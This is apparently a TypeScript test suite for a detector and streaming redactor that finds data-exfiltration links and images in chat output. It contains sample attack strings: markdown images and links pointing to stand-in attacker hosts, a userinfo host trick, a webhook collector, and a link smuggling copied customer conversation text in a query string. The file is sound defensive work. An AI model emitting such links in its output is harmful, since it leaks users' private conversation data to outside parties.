import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { rememberText } from './copied.ts'
import { attacks, benign, conversation } from './corpus.test.samples.ts'
import { createExfiltrationRedactor, findExfiltration, pendingExfiltrationLength, redactExfiltration } from './find.ts'
import { isAllowedHost } from './address.ts'

const options = { allowedHosts: ['img.example.com'], conversation: rememberText(conversation) }

describe('findExfiltration', () => {
  it('is measured on at least 60 attacks and 100 good addresses', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(60)
    expect(benign.length).toBeGreaterThanOrEqual(100)
  })

  it.each(attacks)('finds %s', (text) => {
    const [found] = findExfiltration(text, options)
    expect(found).toBeDefined()
    // What is left names no host of the attacker's that a program would go to.
    expect(findExfiltration(redactExfiltration(text, options), options)).toEqual([])
  })

  it.each(benign)('lets %s pass', (text) => {
    expect(findExfiltration(text, options)).toEqual([])
  })

  it('tells the reason and the host a browser would ask', () => {
    const reasonOf = (text: string): string[] =>
      findExfiltration(text, options).map(({ type, reason, host }) => `${type} ${reason} ${host}`)
    expect(reasonOf('![x](https://img.example.com@EVIL.example/a)')).toEqual(['exfiltration-image loads-by-itself evil.example'])
    expect(reasonOf('[x](https://a.example@evil.example/)')).toEqual(['exfiltration-link user-in-address evil.example'])
    expect(reasonOf('https://webhook.site/x')).toEqual(['exfiltration-link collector webhook.site'])
    const copied = '[x](https://e.example/?d=Customer-Jane-Roe,contract-88231,wants-to-cancel)'
    expect(reasonOf(copied)).toEqual(['exfiltration-link copied-text e.example'])
  })

  it('covers the address alone, so that the text around it stays what it was', () => {
    expect(redactExfiltration('a ![x](https://evil.example/a.png "t") b')).toBe('a ![x]([REDACTED_EXFILTRATION_IMAGE] "t") b')
    expect(redactExfiltration('![x][y]')).toBe('![x][[REDACTED_EXFILTRATION_IMAGE]]')
  })

  it('knows an image whose description is longer than it reads back', () => {
    expect(findExfiltration(`![${'x'.repeat(600)}](https://evil.example/a.png)`)).toHaveLength(1)
  })

  it('lets hosts below an allowed one through only when told so', () => {
    expect(isAllowedHost('a.example.com', ['example.com'])).toBe(false)
    expect(isAllowedHost('A.Example.COM.', ['*.example.com'])).toBe(true)
    expect(isAllowedHost('badexample.com', ['*.example.com'])).toBe(false)
  })
})

const pieces = fc.oneof(
  fc.constantFrom(...attacks.filter((text) => text.length < 600), ...benign),
  fc.tuple(fc.constantFrom(...attacks), fc.nat({ max: 80 })).map(([text, length]) => text.slice(0, length)),
  fc.string({ maxLength: 8 }),
  fc.constantFrom(' ', '\n', '](', '![', '<img src="', "'", '"', '>', ')', '][', ']: ', 'https://', '//', 'url(', '@import "', '&'),
)
const planted = fc.array(pieces, { maxLength: 10 }).map((parts) => parts.join(''))

describe('createExfiltrationRedactor', () => {
  const streamed = (chunks: string[]): string => {
    const redactor = createExfiltrationRedactor(options)
    return chunks.map((chunk) => redactor.push(chunk).text).join('') + redactor.end().text
  }

  it('gives the text of the whole, however it is cut', () => {
    fc.assert(
      fc.property(planted, fc.array(fc.nat({ max: 3000 }), { maxLength: 10 }), (text, cuts) => {
        const places = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b)
        const chunks = [0, ...places].map((from, i) => text.slice(from, places[i] ?? text.length))
        expect(streamed(chunks)).toBe(redactExfiltration(text, options))
      }),
      { numRuns: 500 },
    )
  })

  it.each(attacks)('shows nothing early, one unit at a time, of %s', (text) => {
    const whole = `${text} and more`
    expect(streamed([...whole])).toBe(redactExfiltration(whole, options))
  })

  it('swallows an address that has no end', () => {
    const redactor = createExfiltrationRedactor()
    const chunks = [`a ![x](https://evil.example/${'x'.repeat(3000)}`, 'y'.repeat(9000), ') b']
    const shown = chunks.map((chunk) => redactor.push(chunk).text)
    expect(shown.join('') + redactor.end().text).toBe('a ![x]([REDACTED_EXFILTRATION_IMAGE]) b')
  })

  it.each(['](', '![', 'https://', 'https:', '<img src="', '<a href=', 'url(', '[a]: ', '][', '(', 'www.', '@import "', 'data ='])(
    'holds no more than 2,048 units of %j repeated',
    (piece) => {
      expect(pendingExfiltrationLength(piece.repeat(20_000 / piece.length))).toBeLessThanOrEqual(2048)
    },
  )
})
